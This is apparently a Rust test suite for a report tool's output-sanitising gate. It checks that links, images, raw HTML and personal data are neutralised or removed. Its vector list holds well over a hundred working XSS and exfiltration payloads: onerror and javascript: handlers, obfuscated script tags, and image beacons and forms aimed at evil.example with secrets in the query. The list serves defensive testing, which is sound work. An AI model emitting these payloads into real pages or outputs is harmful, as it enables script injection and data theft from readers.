use std::collections::BTreeSet;

use assay_domain::Language;
use assay_gates::{
    EgressDecision, EgressPolicy, EgressVerdict, OfRun, Outgoing, OutputKind, egress,
};
use pulldown_cmark::{Event, Options, Parser, html};
use scraper::Html;

const ALLOWED: &str = "https://press.example/lumora?page=2&lang=en";
const ALLOWED_BRACKETS: &str = "https://lumora.example/a_(b)";

fn policy() -> EgressPolicy {
    EgressPolicy {
        allowed_links: [ALLOWED, ALLOWED_BRACKETS].map(str::to_owned).into(),
        ..EgressPolicy::default()
    }
}

fn judged(text: &str) -> EgressDecision {
    let output = Outgoing {
        kind: OutputKind::Export,
        text,
        language: Language::En,
        disclaimer_required: false,
        run: OfRun::NONE,
        configured_secrets: &[],
    };
    egress(&output, &policy())
}

/// Everything that loads, runs or leads away, in the ways Markdown and HTML can say it.
const VECTORS: &[&str] = &[
    // pictures
    "![x](https://evil.example/a.png)",
    "![](https://evil.example/a.png)",
    "![x](http://evil.example/?q=secret \"title\")",
    "![x](<https://evil.example/a b.png>)",
    "![x][img]\n\n[img]: https://evil.example/a.png",
    "![img][]\n\n[img]: https://evil.example/a.png",
    "![img]\n\n[img]: https://evil.example/a.png",
    "![x](//evil.example/a.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](relative.png)",
    "![x](file:///etc/passwd)",
    "![x](https://press.example/lumora?page=2&lang=en)",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "[![x](https://evil.example/a.png)](https://press.example/lumora?page=2&lang=en)",
    "![a ![b](https://evil.example/b.png)](https://evil.example/c.png)",
    "| a |\n| --- |\n| ![x](https://evil.example/a.png) |",
    "> ![x](https://evil.example/a.png)",
    "- ![x](https://evil.example/a.png)",
    "# ![x](https://evil.example/a.png)",
    "text[^1]\n\n[^1]: ![x](https://evil.example/a.png)",
    "![x]\\\n(https://evil.example/a.png)",
    "!\u{200b}[x](https://evil.example/a.png)",
    "*![x](https://evil.example/a.png)*",
    "![x](&#104;ttps://evil.example/a.png)",
    "![x](https\\://evil.example/a.png)",
    // links
    "[x](https://evil.example)",
    "[x](https://evil.example \"t\")",
    "[x](<https://evil.example>)",
    "[x][y]\n\n[y]: https://evil.example",
    "[y][]\n\n[y]: https://evil.example",
    "[y]\n\n[y]: https://evil.example",
    "[y]\n\n[Y]: <https://evil.example> 'title'",
    "[y]: https://evil.example\n[y]: https://evil2.example\n\n[y]",
    "[y]: https://evil.example",
    "[x][redacted: e-mail address]\n\n[redacted: e-mail address]: https://evil.example",
    "<https://evil.example>",
    "<mailto:jane@evil.example>",
    "<jane@evil.example>",
    "https://evil.example/path?q=1",
    "see https://evil.example.",
    "(https://evil.example)",
    "见https://evil.example。",
    "www.evil.example",
    "WWW.EVIL.EXAMPLE",
    "http&#58;//evil.example",
    "https\\://evil.example",
    "https:/\u{200b}/evil.example",
    "ftp://evil.example/file",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\u{1}javascript:alert(1))",
    "[x](java\u{200b}script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example\\share)",
    "[x](/local)",
    "[x](other.md)",
    "[x](?q=1)",
    "[x](mailto:jane@evil.example?body=secret)",
    "[x](tel:+15551234567)",
    "[x](https://press.example/lumora?page=2&lang=en&leak=secret)",
    "[x](https://press.example/lumora?page=2)",
    "[x](https://press.example.evil.example/lumora?page=2&lang=en)",
    "[x](https://press.example@evil.example/lumora?page=2&lang=en)",
    "[x](http://press.example/lumora?page=2&lang=en)",
    "[**x** `y`](https://evil.example)",
    "[x\n](https://evil.example)",
    "text[^1]\n\n[^1]: https://evil.example",
    "text[^a]\n\n[^a]: [x](javascript:alert(1))",
    "text[^a]\n\n[^a]: javascript:alert(1)",
    "text[^a]\n\n[^a]: //evil.example",
    "text[^a]\n\n[^a]: <https://evil.example/a b>",
    "| a |\n| --- |\n| [x](https://evil.example) |",
    "[x](https://evil.example)[y](https://evil.example)",
    "[a](https://evil.example)(https://evil.example)",
    "[outer [inner](https://evil.example) text](https://evil.example)",
    "`unclosed https://evil.example",
    "foo ` bar https://evil.example baz",
    // raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "text <script>alert(1)</script> text",
    "<script\nsrc=\"https://evil.example/x.js\">\n</script>",
    "<img src=x onerror=alert(1)>",
    "text <img src=x onerror=alert(1)> text",
    "<img src=x onerror=alert(1)//",
    "text <img src=x onerror=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=\"https://evil.example/a.png\"/></svg>",
    "text <svg/onload=alert(1)>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<object data=\"https://evil.example\"></object>",
    "<embed src=\"https://evil.example\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<base href=\"https://evil.example/\">",
    "<form action=\"https://evil.example\"><input name=x></form>",
    "text <a href=\"https://evil.example\">x</a>",
    "text <a href=\"javascript:alert(1)\">x</a>",
    "text <a id=\"s1\" onclick=\"alert(1)\">x</a>",
    "text <a id=\"s1\"\nonmouseover=alert(1)>x</a>",
    "text <a id=\"fig-x\" href=\"https://evil.example\">x</a>",
    "text <a id=\"fig-x\"onclick=\"alert(1)\">x</a>",
    "text <a id=\"fig-x y\">x</a> <a id=\"fig-\">y</a> <a id=\"s\">z</a>",
    "<div style=\"background:url(https://evil.example/a.png)\">x</div>",
    "text <b onmouseover=alert(1)>x</b>",
    "<video src=\"https://evil.example/v.mp4\" autoplay></video>",
    "<audio src=\"https://evil.example/a.mp3\"></audio>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<!-- <script>alert(1)</script> -->",
    "text <!-- comment --> text",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "<!DOCTYPE html>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<sc<script>ript>alert(1)</script>",
    "<scr<b></b>ipt>alert(1)</scr<b></b>ipt>",
    "<im<!-- -->g src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "# Title <img src=x onerror=alert(1)>",
    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "text[^1]\n\n[^1]: <script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "`a` <script>alert(1)</script> `b`",
    // what some viewers add
    "# Title {onclick=alert(1)}",
    "# Title {#id .class style=\"background:url(https://evil.example)\"}",
    "[x](#s1){onclick=alert(1)}",
    "```mermaid\ngraph TD; click A \"https://evil.example\"\n```",
    "~~~ {.mermaid}\nx\n~~~",
    "```vega-lite\n{\"data\":{\"url\":\"https://evil.example\"}}\n```",
    "![[https://evil.example/a.png]]",
    "$\\href{https://evil.example}{x}$",
];

#[test]
fn nothing_that_leaves_loads_runs_or_leads_away() {
    assert!(VECTORS.len() >= 100, "{} vectors", VECTORS.len());
    for vector in VECTORS {
        for text in [
            (*vector).to_owned(),
            format!("Before.\n\n{vector}\n\nAfter."),
            format!("Before {vector}"),
        ] {
            let decision = judged(&text);
            match &decision.text {
                Some(clean) => assert_inert(&text, clean),
                None => assert_eq!(decision.verdict, EgressVerdict::Blocked, "{text:?}"),
            }
            for span in &decision.removed {
                assert!(
                    text.get(span.start..span.end).is_some(),
                    "{text:?} {span:?}"
                );
            }
        }
    }
}

/// Renders with more than the gate assumes and looks at the page as a browser would.
fn assert_inert(text: &str, clean: &str) {
    // A viewer with wiki links takes the report's own citations for pages of its own.
    let most = Options::all() - Options::ENABLE_WIKILINKS;
    for options in [Options::empty(), most] {
        let mut page = String::new();
        html::push_html(&mut page, Parser::new_ext(clean, options));
        for node in Html::parse_document(&page).tree.nodes() {
            let Some(element) = node.value().as_element() else {
                continue;
            };
            let forbidden = [
                "script", "img", "iframe", "object", "embed", "link", "style", "meta", "base",
                "form", "svg", "video", "audio", "source", "template", "image",
            ];
            assert!(
                !forbidden.contains(&element.name()),
                "{text:?} → {clean:?} → {page}"
            );
            for (name, value) in element.attrs() {
                assert!(!name.starts_with("on"), "{text:?} → {clean:?} → {page}");
                let leads = ["src", "href", "srcset", "action", "data", "style", "poster"];
                let is_fine = value.starts_with('#')
                    || value == ALLOWED
                    || (name == "style" && value.starts_with("text-align"));
                assert!(
                    !leads.contains(&name) || is_fine,
                    "{text:?} → {clean:?} → {page}"
                );
            }
        }
    }
    // Many viewers make links of addresses in running text.
    let words = Parser::new_ext(clean, Options::ENABLE_TABLES | Options::ENABLE_FOOTNOTES);
    let shown: String = words
        .filter_map(|event| match event {
            Event::Text(words) => Some(words.to_string()),
            _ => None,
        })
        .collect();
    let is_code = clean.contains("```") || clean.contains("~~~");
    let bare = shown.replace(ALLOWED, "").to_lowercase();
    let leads = bare.contains("://") || bare.contains("www.");
    assert!(is_code || !leads, "{text:?} → {clean:?}");
    let again = judged(clean);
    assert_eq!(
        again.text.as_deref(),
        Some(clean),
        "{text:?} is not settled"
    );
    assert_eq!(again.removed, []);
}

#[test]
fn evidence_and_places_in_the_report_stay_links() {
    for text in [
        "See [the site](https://lumora.example/a_%28b%29).",
        "See [the site](https://LUMORA.example/a_\\(b\\)).",
        "Source: <https://press.example/lumora?page=2&lang=en>",
        "Source: https://press.example/lumora?page=2&lang=en.",
        "See [x][y].\n\n[y]: https://press.example/lumora?page=2&lang=en",
        "Growth[[1]](#s1).\n\n<a id=\"s1\"></a>**[1]** Report",
        "Revenue [4,480](#fig-dp_1).\n\n<a id=\"fig-dp_1~40~2026-09-30\"></a>**Revenue** as filed",
        "[1. Overview](#1-overview)",
        "| a<br>b | c |\n| --- | --- |\n| 1 | 2 |",
        "`<script>` and `https://evil.example` are shown as code",
        "```html\n<img src=\"https://evil.example\">\n```",
        "1 \\< 2, a \\<b, 3 < 4 and 5 <6",
        "5 &lt; 6 &amp; \\[x\\]\\(y\\)",
        "Price {2024} and {a = 1}",
    ] {
        let decision = judged(text);
        assert_eq!(
            decision.text.as_deref(),
            Some(text),
            "{:?}",
            decision.removed
        );
        assert_eq!(decision.verdict, EgressVerdict::Safe);
    }
}

#[test]
fn what_is_taken_out_leaves_its_words() {
    for (text, expected) in [
        ("See [the filing](https://evil.example).", "See the filing."),
        ("![chart](https://evil.example/a.png)", "[image removed]"),
        (
            "See https://evil.example/a.",
            "See `https://evil.example/a`.",
        ),
        ("a <b>bold</b> word", "a bold word"),
        ("x <y", "x &lt;y"),
        (
            "Mail <jane@evil.example>.",
            "Mail [redacted: e-mail address].",
        ),
        (
            "[jane@evil.example](mailto:jane@evil.example)",
            "[redacted: e-mail address]",
        ),
        ("41<b></b>11 1111 1111 1111", "[redacted: payment card]"),
    ] {
        assert_eq!(judged(text).text.as_deref(), Some(expected), "{text}");
    }
}

#[test]
fn removals_are_listed_with_rule_place_and_reason() {
    let text = "See [it](https://evil.example) or call +1 415 555 2671.";
    let decision = judged(text);
    let listed: Vec<(&str, &str, &str)> = decision
        .removed
        .iter()
        .map(|one| {
            (
                one.rule.as_str(),
                &text[one.start..one.end],
                one.reason.as_str(),
            )
        })
        .collect();
    assert_eq!(
        listed,
        [
            (
                "G-105",
                "[it](https://evil.example)",
                "a link that is no evidence"
            ),
            ("G-101", "+1 415 555 2671", "personal data: phone number"),
        ]
    );
    let rules: BTreeSet<&str> = listed.iter().map(|(rule, _, _)| *rule).collect();
    assert_eq!(rules.len(), 2);
}
